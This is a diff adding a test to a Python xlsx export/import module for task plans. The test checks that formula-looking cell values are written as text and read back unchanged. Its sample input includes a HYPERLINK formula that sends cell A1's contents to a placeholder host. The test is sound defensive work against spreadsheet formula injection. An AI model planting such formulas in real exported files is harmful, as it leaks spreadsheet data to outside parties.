@@ -84,6 +84,24 @@ def test_xlsx_round_trip(session: Session, example: str, tmp_path: Path) -> None
     assert load_workbook(path).sheetnames == ["任务", "指标", "计划信息"]
 
 
+def test_formula_looking_text_is_exported_as_text_and_reads_back_unchanged(session: Session,
+                                                                           tmp_path: Path) -> None:
+    from tasks.plans.importers.spreadsheet import read_xlsx
+    from tests.factories import make_department, make_plan, make_task
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    plan = make_plan(session, code="p")
+    unit = make_department(session, "=1+1市民政局")
+    make_task(session, plan, "1", hostile, lead=[unit], milestones=[{"label": "2016年", "text": "@SUM(A1:A9)"}])
+    session.commit()
+    path = export_xlsx(session, "p", tmp_path / "out.xlsx")
+    sheet = load_workbook(path)["任务"]
+    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if str(c.value)[:1] in "=@"}
+    assert cells == {hostile: "s", "=1+1市民政局": "s", "@SUM(A1:A9)": "s"}
+    [task] = read_xlsx(path).tasks  # what `duban import` reads back
+    assert task.text == hostile
+
+
 def test_round_trip_of_responsible_only_layout(session: Session, tmp_path: Path) -> None:
     import_plan(session, DATA / "responsible_only.xlsx", plan_code="r")
     path = export_xlsx(session, "r", tmp_path / "r.xlsx")
